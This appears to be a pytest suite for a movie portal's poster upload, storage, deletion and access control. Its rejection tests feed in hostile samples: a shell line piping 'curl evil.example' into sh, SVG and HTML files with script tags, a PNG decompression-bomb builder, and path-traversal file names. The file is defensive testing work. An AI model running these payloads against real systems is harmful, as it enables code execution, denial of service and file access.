"""Posters: uploaded through the real movie form, verified by decoding, stored under generated
names with a thumbnail, served to signed-in users, removed with their movie or when replaced."""

import io
import os
import re
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import event, exc
from werkzeug.datastructures import FileStorage

from portal.extensions import db
from portal.models import Movie
from portal.services import posters

from .conftest import csrf_from, page_messages

STORED_NAME = re.compile(r"^[0-9a-f]{32}\.(jpg|png|webp)$")
EXTENSIONS = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp"}
MOVIE_FORM = {
    "title": "流浪地球",
    "original_title": "",
    "director": "",
    "cast": "",
    "genres": "",
    "language": "",
    "country": "",
    "duration_minutes": "125",
    "release_date": "",
    "status": "showing",
    "rating": "",
    "synopsis": "",
}


def image_bytes(fmt="JPEG", size=(300, 450), colour=(200, 30, 30), **save_args):
    """A real image made with Pillow, as the bytes of a file of format `fmt`."""
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, fmt, **save_args)
    return out.getvalue()


def noise_png(width, height):
    """A real PNG that does not compress (random pixels): about 3 bytes a pixel."""
    out = io.BytesIO()
    Image.frombytes("RGB", (width, height), os.urandom(width * height * 3)).save(out, "PNG")
    return out.getvalue()


def png_bomb(width, height):
    """A valid 1-bit PNG of width x height pixels, all black: a few kB on disk, built without
    ever holding the decoded image (which would take width * height bytes in Pillow)."""

    def chunk(kind, body):
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    row = b"\x00" * (1 + (width + 7) // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


@pytest.fixture()
def editor(english, login_as):
    return login_as("content_editor")


@pytest.fixture()
def poster_dir(app):
    return Path(app.config["UPLOADED_POSTERS_DEST"])


def stored_files(poster_dir):
    return sorted(p.name for p in poster_dir.iterdir()) if poster_dir.exists() else []


def submit_movie(client, url, poster=None, filename="poster.jpg", **fields):
    """GET the movie form at `url`, then POST it (multipart, with its CSRF token)."""
    page = client.get(url)
    assert page.status_code == 200, page.status_code
    data = {"csrf_token": csrf_from(page.text), **MOVIE_FORM, **fields}
    if poster is not None:
        data["poster_file"] = (io.BytesIO(poster), filename)
    return client.post(url, data=data, content_type="multipart/form-data")


def create_with_poster(client, poster, filename="poster.jpg", title="流浪地球"):
    response = submit_movie(client, "/admin/movie/new/", poster, filename, title=title)
    assert response.status_code == 302, page_messages(response.text)
    return db.session.query(Movie).filter_by(title=title).one()


def edit_url(movie):
    return f"/admin/movie/edit/?id={movie.id}&url=/admin/movie/"


def delete_movie(client, movie_id):
    token = csrf_from(client.get("/admin/movie/").text)
    return client.post(
        "/admin/movie/delete/", data={"csrf_token": token, "id": movie_id}, follow_redirects=True
    )


# -- good files ----------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_real_image_is_stored_under_a_generated_name_served_and_thumbnailed(
    client, editor, poster_dir, fmt
):
    movie = create_with_poster(client, image_bytes(fmt), f"poster.{EXTENSIONS[fmt]}")

    assert STORED_NAME.match(movie.poster) and movie.poster.endswith("." + EXTENSIONS[fmt])
    thumbnail = posters.thumbnail_name(movie.poster)
    assert {movie.poster, thumbnail} <= set(stored_files(poster_dir))
    served = client.get(f"/uploads/posters/{movie.poster}")
    assert served.status_code == 200
    assert Image.open(io.BytesIO(served.data)).format == fmt
    small = client.get(f"/uploads/posters/{thumbnail}")
    assert small.status_code == 200
    assert max(Image.open(io.BytesIO(small.data)).size) <= 240
    listing = client.get("/admin/movie/").text
    assert f'<img class="poster-thumb" src="/uploads/posters/{thumbnail}"' in listing


def test_details_show_the_full_poster_large_not_the_thumbnail(client, editor):
    movie = create_with_poster(client, image_bytes())

    details = client.get(f"/admin/movie/details/?id={movie.id}").text
    assert f'src="/uploads/posters/{posters.thumbnail_name(movie.poster)}"' not in details
    assert f'<img class="poster-full" src="/uploads/posters/{movie.poster}"' in details


def test_a_poster_can_be_removed_on_edit_and_its_files_go(client, editor, poster_dir):
    movie = create_with_poster(client, image_bytes())
    files = {movie.poster, posters.thumbnail_name(movie.poster)}
    response = submit_movie(client, edit_url(movie), remove_poster="y", form_version=movie.version)
    assert response.status_code == 302, page_messages(response.text)
    assert db.session.get(Movie, movie.id).poster is None
    assert not files & set(stored_files(poster_dir))
    assert "poster-placeholder" in client.get("/admin/movie/").text
    new_form = client.get("/admin/movie/new/").text
    admin_form = new_form[new_form.find("admin-form") :]
    admin_form = admin_form[: admin_form.find("</form>")]
    assert 'name="remove_poster"' not in admin_form and 'name="csrf_token"' in admin_form


def test_poster_named_in_chinese_uploads_and_displays(client, editor, poster_dir):
    movie = create_with_poster(client, image_bytes(), "海报.jpg")

    assert STORED_NAME.match(movie.poster)
    assert client.get(f"/uploads/posters/{movie.poster}").status_code == 200
    assert posters.thumbnail_name(movie.poster) in client.get("/admin/movie/").text


def test_stored_poster_keeps_no_metadata_and_stands_upright(client, editor, poster_dir):
    exif = Image.Exif()
    exif[0x010E] = "拍摄于家中"  # ImageDescription
    exif[0x0112] = 6  # Orientation: rotate 90 degrees to display
    original = image_bytes("JPEG", size=(300, 450), exif=exif.tobytes(), comment=b"secret")

    movie = create_with_poster(client, original)

    stored = Image.open(poster_dir / movie.poster)
    assert not stored.getexif() and "comment" not in stored.info
    assert stored.size == (450, 300)


def test_edit_page_shows_the_current_poster(client, editor):
    movie = create_with_poster(client, image_bytes())

    page = client.get(edit_url(movie)).text
    assert posters.thumbnail_name(movie.poster) in page and 'name="poster_file"' in page


# -- bad files -----------------------------------------------------------------------------
def truncated_png():
    whole = image_bytes("PNG", size=(200, 300))
    return whole[: len(whole) // 2]


BAD_FILES = {
    "script renamed .jpg": (
        lambda: b"#!/bin/sh\ncurl evil.example | sh\n",
        "poster.jpg",
        "This file is not a JPEG, PNG or WebP image.",
    ),
    "svg with script": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "poster.svg",
        "Choose a JPEG, PNG or WebP image (.jpg, .png, .webp).",
    ),
    "svg renamed .png": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "poster.png",
        "This file is not a JPEG, PNG or WebP image.",
    ),
    "html": (
        lambda: b"<!doctype html><script>document.cookie</script>",
        "poster.html",
        "Choose a JPEG, PNG or WebP image (.jpg, .png, .webp).",
    ),
    "html renamed .webp": (
        lambda: b"<!doctype html><script>document.cookie</script>",
        "poster.webp",
        "This file is not a JPEG, PNG or WebP image.",
    ),
    "gif renamed .jpg": (
        lambda: image_bytes("GIF"),
        "poster.jpg",
        "This file is not a JPEG, PNG or WebP image.",
    ),
    "truncated png": (truncated_png, "poster.png", "This image is damaged or incomplete"),
    "20000x20000 png": (lambda: png_bomb(20000, 20000), "poster.png", "This image is too large"),
    "7000x7000 png": (lambda: png_bomb(7000, 7000), "poster.png", "This image is too large"),
    "empty file": (lambda: b"", "poster.jpg", "The file is empty."),
    "name with ../": (
        lambda: image_bytes(),
        "../../portal/static/poster.jpg",
        "The file name must not contain a folder path.",
    ),
}


@pytest.mark.parametrize("case", BAD_FILES)
def test_bad_file_is_refused_with_a_message_and_nothing_is_stored(client, editor, poster_dir, case):
    content, filename, message = BAD_FILES[case]
    before = stored_files(poster_dir)

    response = submit_movie(client, "/admin/movie/new/", content(), filename)

    assert response.status_code == 200
    messages = page_messages(response.text)
    assert any(m.startswith(message) for m in messages), messages
    assert "Failed to create record." in messages
    assert db.session.query(Movie).count() == 0
    assert stored_files(poster_dir) == before


def test_bad_file_on_edit_changes_neither_the_row_nor_the_files(client, editor, poster_dir):
    movie = create_with_poster(client, image_bytes())
    before, poster, version = stored_files(poster_dir), movie.poster, movie.version

    response = submit_movie(
        client,
        edit_url(movie),
        truncated_png(),
        "new.png",
        title="改了名字",
        form_version=movie.version,
    )

    assert response.status_code == 200
    assert any(m.startswith("This image is damaged") for m in page_messages(response.text))
    db.session.expire_all()
    assert (movie.title, movie.poster, movie.version) == ("流浪地球", poster, version)
    assert stored_files(poster_dir) == before


@pytest.mark.parametrize("route", ["new", "edit"])
def test_over_size_upload_shows_the_form_again_with_a_message(
    app, client, editor, poster_dir, monkeypatch, route
):
    movie = create_with_poster(client, image_bytes(), title="原片") if route == "edit" else None
    url = edit_url(movie) if movie else "/admin/movie/new/"
    before = stored_files(poster_dir)
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 20 * 1024)
    big = noise_png(200, 200)
    assert len(big) > 20 * 1024

    response = submit_movie(
        client, url, big, "big.png", title="太大了", form_version=movie.version if movie else ""
    )
    assert response.status_code == 303
    page = client.get(response.headers["Location"])

    assert page.status_code == 200 and 'name="poster_file"' in page.text
    assert (
        "The file is larger than the portal accepts (at most 20 KB). Nothing was saved."
        in page_messages(page.text)
    )
    assert db.session.query(Movie).filter_by(title="太大了").count() == 0
    assert stored_files(poster_dir) == before


@pytest.mark.parametrize(
    "filename",
    [
        "../poster.jpg",
        "..\\poster.jpg",
        "posters/a.jpg",
        "C:\\Users\\me\\a.jpg",
        "a.jpg\x00.html",
        "",
    ],
)
def test_file_check_refuses_client_names_with_a_path(filename):
    with pytest.raises(posters.PosterRejected):
        posters.check_client_filename(filename)


def test_file_check_refuses_more_bytes_than_the_limit():
    upload = FileStorage(io.BytesIO(image_bytes()), filename="poster.jpg")

    with pytest.raises(posters.PosterRejected, match="larger than 100 B"):
        posters.read_upload(upload, max_bytes=100)


# -- files follow the row: replaced, deleted, or never kept when the save fails -------------
def test_replacing_a_poster_removes_the_old_files(client, editor, poster_dir):
    movie = create_with_poster(client, image_bytes("JPEG"))
    old = {movie.poster, posters.thumbnail_name(movie.poster)}

    response = submit_movie(
        client, edit_url(movie), image_bytes("PNG"), "新海报.png", form_version=movie.version
    )

    assert response.status_code == 302, page_messages(response.text)
    db.session.expire_all()
    assert movie.poster.endswith(".png")
    files = set(stored_files(poster_dir))
    assert {movie.poster, posters.thumbnail_name(movie.poster)} <= files
    assert not old & files


def test_editing_without_a_file_keeps_the_poster(client, editor, poster_dir):
    movie = create_with_poster(client, image_bytes())
    before, poster = stored_files(poster_dir), movie.poster

    response = submit_movie(client, edit_url(movie), title="新片名", form_version=movie.version)

    assert response.status_code == 302, page_messages(response.text)
    db.session.expire_all()
    assert (movie.title, movie.poster) == ("新片名", poster)
    assert stored_files(poster_dir) == before


def test_deleting_a_movie_removes_its_files(client, editor, poster_dir):
    movie = create_with_poster(client, image_bytes())
    files = {movie.poster, posters.thumbnail_name(movie.poster)}

    response = delete_movie(client, movie.id)

    assert "Movie “流浪地球” was deleted." in page_messages(response.text)
    assert db.session.query(Movie).count() == 0
    assert not files & set(stored_files(poster_dir))


def test_refused_delete_keeps_the_movie_and_its_files(client, editor, make, poster_dir):
    movie = create_with_poster(client, image_bytes())
    make.schedule(movie=movie)
    before = stored_files(poster_dir)

    response = delete_movie(client, movie.id)

    assert (
        "This movie still has schedules; take it offline instead of deleting it."
        in page_messages(response.text)
    )
    assert db.session.query(Movie).count() == 1
    assert stored_files(poster_dir) == before


def test_bulk_delete_removes_the_files_of_the_deleted_movies_only(client, editor, make, poster_dir):
    kept = create_with_poster(client, image_bytes(), title="有排期")
    make.schedule(movie=kept)
    gone = [create_with_poster(client, image_bytes(), title=f"下线{i}") for i in range(2)]
    gone_files = {name for m in gone for name in (m.poster, posters.thumbnail_name(m.poster))}
    kept_files = {kept.poster, posters.thumbnail_name(kept.poster)}
    token = csrf_from(client.get("/admin/movie/").text)

    response = client.post(
        "/admin/movie/action/",
        data={"csrf_token": token, "action": "delete", "rowid": [str(m.id) for m in [kept, *gone]]},
        follow_redirects=True,
    )

    messages = page_messages(response.text)
    assert "2 records were successfully deleted." in messages
    assert "This movie still has schedules; take it offline instead of deleting it." in messages
    files = set(stored_files(poster_dir))
    assert kept_files <= files and not gone_files & files
    assert [m.title for m in db.session.query(Movie)] == ["有排期"]


@pytest.fixture()
def database_refuses(app_ctx):
    """Make the next INSERT or UPDATE of a movie fail inside the commit, like a lost connection
    or a constraint the form cannot see."""

    def refuse(*_args):
        raise exc.IntegrityError("movie", {}, Exception("refused by the test"))

    for hook in ("before_insert", "before_update"):
        event.listen(Movie, hook, refuse)
    yield
    for hook in ("before_insert", "before_update"):
        event.remove(Movie, hook, refuse)


def test_create_failing_in_the_database_leaves_no_file(
    client, editor, poster_dir, database_refuses
):
    before = stored_files(poster_dir)

    response = submit_movie(client, "/admin/movie/new/", image_bytes())

    assert response.status_code == 200
    assert any("Nothing was saved" in m for m in page_messages(response.text))
    assert db.session.query(Movie).count() == 0
    assert stored_files(poster_dir) == before


def test_edit_failing_in_the_database_keeps_the_old_poster_and_no_new_file(
    client, editor, poster_dir, request
):
    movie = create_with_poster(client, image_bytes())
    before, poster = stored_files(poster_dir), movie.poster
    request.getfixturevalue("database_refuses")

    response = submit_movie(
        client, edit_url(movie), image_bytes("WEBP"), "new.webp", form_version=movie.version
    )

    assert response.status_code == 200
    assert any("Nothing was saved" in m for m in page_messages(response.text))
    db.session.expire_all()
    assert movie.poster == poster
    assert stored_files(poster_dir) == before


def test_stale_edit_with_a_new_poster_is_refused_and_stores_nothing(client, editor, poster_dir):
    movie = create_with_poster(client, image_bytes())
    opened_version = movie.version
    movie.synopsis = "someone else saved first"
    db.session.commit()
    before = stored_files(poster_dir)

    response = submit_movie(
        client, edit_url(movie), image_bytes("PNG"), "new.png", form_version=opened_version
    )

    assert any("changed this record after you opened it" in m for m in page_messages(response.text))
    assert stored_files(poster_dir) == before


# -- flashed outcomes ----------------------------------------------------------------------
def test_create_and_edit_flash_their_outcome(client, editor):
    created = submit_movie(client, "/admin/movie/new/", image_bytes())
    assert "Movie “流浪地球” was created." in page_messages(
        client.get(created.headers["Location"]).text
    )
    movie = db.session.query(Movie).one()

    edited = submit_movie(client, edit_url(movie), title="新", form_version=movie.version)
    assert "Movie “新” was saved." in page_messages(client.get(edited.headers["Location"]).text)


def test_invalid_form_flashes_and_marks_the_field(client, editor):
    response = submit_movie(client, "/admin/movie/new/", duration_minutes="0")

    messages = page_messages(response.text)
    assert "Failed to create record." in messages
    assert "Number must be between 1 and 600." in messages
    assert db.session.query(Movie).count() == 0


# -- serving -------------------------------------------------------------------------------
def sign_out(client):
    client.post("/logout", data={"csrf_token": csrf_from(client.get("/admin/").text)})


def test_posters_are_served_only_to_signed_in_users_who_may_view_movies(
    client, editor, login_as, make
):
    movie = create_with_poster(client, image_bytes())
    url = f"/uploads/posters/{movie.poster}"

    sign_out(client)
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]
    login_as("auditor")
    assert client.get(url).status_code == 200
    sign_out(client)
    login_as(make.user(None))
    assert client.get(url).status_code == 403


def test_served_poster_is_private_and_never_sniffed(client, editor):
    movie = create_with_poster(client, image_bytes())

    response = client.get(f"/uploads/posters/{movie.poster}")

    assert response.mimetype == "image/jpeg"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "private" in response.headers["Cache-Control"]
    assert "default-src 'none'" in response.headers["Content-Security-Policy"]


@pytest.mark.parametrize(
    "name", ["..%2F..%2Fportal%2F__init__.py", "missing.jpg", "%2E%2E%2Fconftest.py"]
)
def test_only_files_in_the_posters_folder_are_served(client, editor, name):
    assert client.get(f"/uploads/posters/{name}").status_code == 404


def test_delete_poster_ignores_names_the_portal_never_made(app_ctx, poster_dir, tmp_path):
    outside = poster_dir.parent / "keep.jpg"
    outside.parent.mkdir(parents=True, exist_ok=True)
    outside.write_bytes(b"not ours")

    with app_ctx.test_request_context():
        posters.delete_poster("../keep.jpg")

    assert outside.exists()
